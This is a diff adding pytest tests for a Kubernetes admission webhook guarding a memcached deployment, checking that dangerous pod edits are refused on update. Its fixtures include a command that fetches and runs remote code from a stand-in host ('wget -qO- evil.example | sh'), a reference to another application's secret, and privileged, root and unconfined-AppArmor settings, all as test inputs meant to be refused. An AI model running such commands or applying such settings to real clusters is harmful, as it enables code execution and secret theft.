@@ -595,3 +595,68 @@ def test_a_budget_lets_one_pod_go_whatever_the_spelling_of_zero(figure: Any) -> 
     for fine in (1, 3, "1%", "50%", "100%"):
         obj["spec"]["maxUnavailable"] = fine
         assert admit("CREATE", obj) is None, fine
+
+
+def _edited(change: Any) -> dict[str, Any]:
+    obj = rendered(spec={"metrics": {"enabled": True}})
+    change(obj)
+    return obj
+
+
+#: (a person's edit, which breaks a rule harmlessly; the token's write on top of it; the rule named)
+BREACH_ON_BREACH = {
+    "args-then-shell": (_container({"args": ["-m", "128"]}), _container({"command": ["sh", "-c", "wget -qO- evil.example | sh"]}),
+                        "command"),
+    "args-then-other-args": (_container({"args": ["-m", "128"]}), _container({"args": ["sh", "-c", "id"]}), "command"),
+    "probe-then-hook": (_container({"readinessProbe": {"exec": {"command": ["sh", "-c", "echo stats | nc localhost 11211"]}}}),
+                        _container({"lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}}), "command"),
+    "probe-then-other-probe": (_container({"readinessProbe": {"exec": {"command": ["true"]}}}),
+                               _container({"readinessProbe": {"exec": {"command": ["sh", "-c", "id"]}}}), "command"),
+    "selinux-then-apparmor": (_security({"seLinuxOptions": {"level": "s0:c1,c2"}}),
+                              _security({"appArmorProfile": {"type": "Unconfined"}, "procMount": "Unmasked"}), "securityContext"),
+    "selinux-then-other-selinux": (_security({"seLinuxOptions": {"level": "s0:c1,c2"}}), _security({"seLinuxOptions": {"type": "spc_t"}}),
+                                   "securityContext"),
+    "privileged-sidecar-then-memcached": (lambda o: pod(o)["containers"][1]["securityContext"].update(privileged=True),
+                                          _security({"privileged": True}), "privileged"),
+    "root-sidecar-then-root-memcached": (lambda o: pod(o)["containers"][1]["securityContext"].update(runAsUser=0),
+                                           _security({"runAsUser": 0}), "nonRoot"),
+    "node-name-then-runtime": (_pod({"nodeName": "worker-1"}), _pod({"runtimeClassName": "unconfined"}), "node"),
+    "secret-env-then-another": (_container({"env": [{"name": "A", "valueFrom": {"secretKeyRef": {"name": "app", "key": "a"}}}]}),
+                                _container({"env": [{"name": "B", "valueFrom": {"secretKeyRef": {"name": "argocd-secret", "key": "k"}}}]}),
+                                "secretEnv"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(BREACH_ON_BREACH))
+def test_a_persons_breach_kept_opens_no_other_breach(case: str) -> None:
+    """On UPDATE a breaking value passes only if the object already held that very value (field by
+    field, container by name): a harmless edit of a person's cannot carry a dangerous one."""
+    persons, tokens, rule = BREACH_ON_BREACH[case]
+    before = _edited(persons)
+    assert admit("UPDATE", before, before) is None, "the person's edit, unchanged, may stay"
+    after = copy.deepcopy(before)
+    tokens(after)
+    assert admit("UPDATE", after, before) == PODS + rule
+
+
+def test_the_reconcilers_correction_around_a_persons_breach_passes() -> None:
+    """The forced apply restores the fields we render (args, our security fields) and leaves a person's
+    own (an exec probe, SELinux options, a node name) as they were: that write passes."""
+    before = _edited(lambda o: (_container({"args": ["-m", "128"], "readinessProbe": {"exec": {"command": ["true"]}}})(o),
+                                _security({"seLinuxOptions": {"level": "s0:c1,c2"}, "readOnlyRootFilesystem": False})(o),
+                                _pod({"nodeName": "worker-1"})(o)))
+    corrected = rendered(spec={"metrics": {"enabled": True}})
+    _container({"readinessProbe": {"exec": {"command": ["true"]}}})(corrected)
+    _security({"seLinuxOptions": {"level": "s0:c1,c2"}})(corrected)
+    _pod({"nodeName": "worker-1"})(corrected)
+    assert admit("UPDATE", corrected, before) is None
+
+
+@pytest.mark.parametrize("profile", ["unconfined", "docker-default-but-not"])
+def test_apparmor_unconfined_through_the_template_annotation_is_refused(profile: str) -> None:
+    obj = rendered()
+    obj["spec"]["template"]["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/memcached": profile}
+    assert admit("CREATE", obj) == PODS + "securityContext"
+    assert admit("UPDATE", obj, rendered()) == PODS + "securityContext"
+    obj["spec"]["template"]["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/memcached": "runtime/default"}
+    assert admit("CREATE", obj) is None
